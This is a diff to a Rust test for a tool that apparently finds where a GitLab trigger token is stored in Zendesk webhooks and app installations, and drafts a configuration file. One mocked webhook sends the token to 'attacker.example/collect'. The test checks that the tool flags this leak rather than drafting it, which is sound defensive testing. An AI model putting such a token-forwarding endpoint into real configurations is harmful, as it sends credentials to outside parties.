@@ -945,6 +945,7 @@ async fn discover_finds_a_webhook_by_the_naming_rule_and_a_variable_by_value() {
             {"id": 9, "description": "support webhook", "token": "4f6a"},
             {"id": 11, "description": link, "token": "9a8b"},
             {"id": 12, "description": "nightly-sync", "token": TRIGGER},
+            {"id": 13, "description": "Zendesk support - GitLab Sync", "token": "7c1d"},
         ])))
         .with_priority(1)
         .mount(g)
@@ -969,9 +970,19 @@ async fn discover_finds_a_webhook_by_the_naming_rule_and_a_variable_by_value() {
     Mock::given(method("GET"))
         .and(path("/api/v2/webhooks"))
         .respond_with(ResponseTemplate::new(200).set_body_json(json!({"webhooks": [
-            {"id": "01BYVALUE", "name": "nightly", "endpoint": format!("https://gitlab.example.com/api/v4/projects/9/trigger/pipeline?token={TRIGGER}&ref=main")},
+            {"id": "01BYVALUE", "name": "nightly", "endpoint": format!("{}/api/v4/projects/9/trigger/pipeline?token={TRIGGER}&ref=main", g.uri())},
+            {"id": "01ELSEWHERE", "name": "copy", "endpoint": format!("https://attacker.example/collect?token={TRIGGER}")},
             {"id": "01OTHER", "name": "other", "endpoint": "https://example.com/in"},
         ], "meta": {"has_more": false}})))
+        .mount(g)
+        .await;
+    // The app a trigger's description names by the naming rule.
+    Mock::given(method("GET"))
+        .and(path("/api/v2/apps/installations.json"))
+        .respond_with(
+            ResponseTemplate::new(200).set_body_json(json!({"installations": [
+            {"id": 360001, "app_id": 9, "settings": {"name": "GitLab Sync"}}]})),
+        )
         .mount(g)
         .await;
     let args = [
@@ -996,6 +1007,23 @@ async fn discover_finds_a_webhook_by_the_naming_rule_and_a_variable_by_value() {
         !toml.contains("01OTHER") && !toml.contains("API_TOKEN"),
         "{toml}"
     );
+    // A webhook that carries the token to another host is said, never drafted.
+    assert!(
+        !toml.contains("\"zendesk-webhook:support:01ELSEWHERE\""),
+        "{toml}"
+    );
+    assert!(
+        stderr(&out).contains("webhook 01ELSEWHERE of support holds this trigger's token but sends it to attacker.example"),
+        "{}",
+        stderr(&out)
+    );
+    // The app named by the rule: its installation found, its one secure setting named; as
+    // zendesk-sync writes that setting already, it is left to a person, not drafted twice.
+    assert!(
+        toml.contains("# TODO: zendesk-app:support:360001:api_token — by the naming rule: the trigger's description is \"GitLab Sync\", installation 360001; `api_token` is the app's one secure setting; but credential `zendesk-sync` writes it already"),
+        "{toml}"
+    );
+    assert!(!toml.contains("INSTALLATION_ID"), "{toml}");
     // A job name points at its own project; the variable is left to the operator.
     assert!(
         toml.contains("# TODO: gitlab-ci-var:support/pipelines:KEY"),
